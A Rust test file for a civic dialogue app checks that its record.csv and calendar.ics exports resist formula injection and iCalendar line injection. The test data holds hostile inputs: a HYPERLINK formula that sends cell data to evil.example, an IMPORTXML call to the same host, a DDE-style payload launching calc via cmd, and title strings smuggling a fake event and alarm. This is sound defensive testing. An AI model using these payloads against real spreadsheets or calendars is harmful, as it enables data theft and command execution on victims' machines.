//! Exports that cannot attack their readers: a record.csv opened in a
//! spreadsheet shows text, never a formula; a calendar file holds exactly the
//! one event the server meant, whatever the title says.

use crate::harness::{Client, TestApp};
use serde_json::{Value, json};

async fn submit_ok(c: &mut Client, msg: Value) -> Value {
    let ack = c.submit(msg).await;
    assert_eq!(ack["type"], "ack", "{ack}");
    ack
}

/// What a spreadsheet decides from: the first character of each cell.
fn formula_cells(csv: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(csv.as_bytes());
    let mut bad = Vec::new();
    for row in reader.records() {
        for cell in row.expect("the CSV parses").iter() {
            if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                bad.push(cell.to_string());
            }
        }
    }
    bad
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn record_csv_cells_never_start_a_formula() {
    let app = TestApp::spawn().await;
    let dialogue = app.live_dialogue().await;
    let mut moderator = dialogue.moderator().await;
    let (_, mut panelist) = dialogue.panelist("Pia Polis", "police").await;
    let mut anna = dialogue.participant().await;
    let payloads = [
        (
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
        ),
        ("+46 70 123 45 67 ringde om parken", "-Berit"),
        ("-2+3 är fem", "=1+1"),
        ("@Kalle varför är det mörkt?", "+Anna"),
    ];
    let mut asked = Vec::new();
    for (text, name) in payloads {
        let ack = submit_ok(
            &mut anna,
            json!({"type": "ask", "text": text, "display_name": name}),
        )
        .await;
        let q = ack["question_id"].as_u64().unwrap();
        assert_eq!(moderator.approve(q).await["type"], "ack");
        asked.push(q);
    }
    submit_ok(
        &mut panelist,
        json!({"type": "write_answer", "question_id": asked[0], "text": "=IMPORTXML(\"http://evil.example\",\"//a\")"}),
    )
    .await;
    submit_ok(
        &mut moderator,
        json!({"type": "publish_answer", "question_id": asked[0]}),
    )
    .await;
    submit_ok(
        &mut panelist,
        json!({"type": "promise_follow_up", "question_id": asked[1], "owner": "@Trafikkontoret", "due": "2030-01-31"}),
    )
    .await;

    let (status, _, csv) = app
        .endpoint
        .get_text(&format!("/d/{}/record.csv", dialogue.code), None)
        .await;
    assert_eq!(status, 200, "{csv}");
    assert_eq!(formula_cells(&csv), Vec::<String>::new(), "{csv}");
    // The text is all there, after the apostrophe that makes it text.
    for shown in [
        "'=HYPERLINK(",
        "'@SUM(1+1)",
        "'+46 70",
        "'-Berit",
        "'-2+3",
        "'=1+1",
        "'@Kalle",
        "'+Anna",
        "'=IMPORTXML(",
        "'@Trafikkontoret",
    ] {
        assert!(csv.contains(shown), "{shown:?} in\n{csv}");
    }
}

/// Undoes RFC 5545 TEXT escaping (the `ical` crate returns values as written).
fn unescape(v: &str) -> String {
    let mut out = String::new();
    let mut chars = v.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('n' | 'N') => out.push('\n'),
                Some(other) => out.push(other),
                None => {}
            }
        } else {
            out.push(c);
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_title_cannot_inject_calendar_lines() {
    let app = TestApp::spawn().await;
    let (endpoint, org) = (&app.endpoint, &app.organizer);
    let injected = "Trygghetsdialog\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:fake@evil\r\n\
                    SUMMARY:Falskt möte\nDTSTART:20300101T100000Z\nLOCATION:Någon annanstans";
    let starts = (chrono::Utc::now() + chrono::Duration::days(20)).to_rfc3339();
    let (status, created) = endpoint
        .post(
            "/api/dialogues",
            org,
            json!({"title": injected, "starts_at": starts,
                "venue": "Biblioteket\rEND:VCALENDAR", "address": "Torget 1; plan 2, \\rum 3",
                "purpose": "Trygghet,\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\nEND:VALARM"}),
        )
        .await;
    assert_eq!(status, 201, "{created}");
    let id = created["id"].as_str().unwrap();
    let code = created["code"].as_str().unwrap();
    let (status, body) = endpoint
        .post(
            &format!("/api/dialogues/{id}/phase"),
            org,
            json!({"phase": "open", "expected": "draft"}),
        )
        .await;
    assert_eq!(status, 200, "{body}");

    let (status, _, ics) = endpoint
        .get_text(&format!("/d/{code}/calendar.ics"), None)
        .await;
    assert_eq!(status, 200, "{ics}");
    assert!(!ics.contains("\r\nEND:VEVENT\r\nBEGIN:VEVENT"), "{ics}");
    let calendars: Vec<_> = ical::IcalParser::new(std::io::BufReader::new(ics.as_bytes()))
        .collect::<Result<_, _>>()
        .expect("the calendar parses");
    assert_eq!(calendars.len(), 1, "{ics}");
    let calendar = &calendars[0];
    assert_eq!(calendar.events.len(), 1, "exactly one VEVENT:\n{ics}");
    assert!(calendar.events[0].alarms.is_empty(), "{ics}");
    let event: std::collections::HashMap<String, String> = calendar.events[0]
        .properties
        .iter()
        .map(|p| (p.name.clone(), p.value.clone().unwrap_or_default()))
        .collect();
    let count = |name: &str| {
        calendar.events[0]
            .properties
            .iter()
            .filter(|p| p.name == name)
            .count()
    };
    for one in ["UID", "SUMMARY", "DTSTART", "LOCATION", "DESCRIPTION"] {
        assert_eq!(count(one), 1, "one {one}:\n{ics}");
    }
    assert_eq!(event["UID"], format!("{id}@dialoghub"));
    // The title round-trips, less its carriage returns; no value holds a CR.
    assert_eq!(unescape(&event["SUMMARY"]), injected.replace('\r', ""));
    assert_eq!(
        unescape(&event["LOCATION"]),
        "BiblioteketEND:VCALENDAR, Torget 1; plan 2, \\rum 3"
    );
    assert!(unescape(&event["DESCRIPTION"]).starts_with("Trygghet,\nBEGIN:VALARM\n"));
    for p in &calendar.properties {
        if p.name == "X-WR-CALNAME" || p.name == "NAME" {
            assert_eq!(
                unescape(p.value.as_deref().unwrap()),
                injected.replace('\r', "")
            );
        }
    }
    assert!(
        !ics.replace("\r\n", "").contains('\r'),
        "no stray CR anywhere:\n{ics:?}"
    );
}
